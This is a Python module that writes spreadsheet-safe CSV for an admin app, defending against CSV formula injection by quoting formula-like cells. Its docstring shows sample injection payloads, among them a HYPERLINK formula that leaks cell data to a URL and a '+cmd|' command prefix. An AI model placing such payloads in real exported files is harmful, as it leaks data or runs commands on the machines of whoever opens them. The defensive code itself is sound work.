"""Spreadsheet-safe CSV: the one way the admin app writes rows to a file.

Memory content is untrusted text, and a spreadsheet opening a CSV file runs any cell that starts
like a formula (``=HYPERLINK("http://…?leak="&A1,"click")``, ``+cmd|…``, ``@SUM(…)``). Following
OWASP's guidance on CSV injection, a text cell that would be read as a formula gets a single
quote in front (the spreadsheet then shows it as text, and the quote tells a reader why), and
every field is quoted. A cell counts as formula-like when it starts with ``=``, ``+``, ``-`` or
``@`` (or their full-width forms, which some spreadsheets also accept), with a tab or a carriage
return, or with any of those after leading whitespace (some spreadsheets trim it before parsing).
Numbers stay numbers: only text is changed, so ``-5`` as an int is exported as it is.

Streamlit's own table toolbar ("Download as CSV", and copying cells to the clipboard) writes
cells verbatim, so the app turns it off (``client.disableDataExport`` in ``.streamlit/config.toml``
and on the ``streamlit run`` command line); :func:`csv_bytes` behind "Download these rows (CSV)"
is then the only export.
"""

from __future__ import annotations

import csv
from typing import Any

import pandas as pd

# Characters that make a spreadsheet read a cell as a formula (ASCII and full-width forms).
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Control characters that some spreadsheets accept before a formula, or that split a cell.
CONTROL_STARTS = frozenset("\t\r")
BOM = "\ufeff"  # so a spreadsheet reads the file as UTF-8 (unicode content stays readable)


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a spreadsheet shows it literally: formula-like text gets a leading ``'``."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in CONTROL_STARTS or value.lstrip()[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The rows of ``frame`` as spreadsheet-safe CSV (UTF-8 with a BOM, every field quoted)."""
    safe = frame.map(spreadsheet_safe)
    safe.columns = [spreadsheet_safe(str(c)) for c in safe.columns]
    return (BOM + safe.to_csv(index=False, quoting=csv.QUOTE_ALL, lineterminator="\r\n")).encode("utf-8")
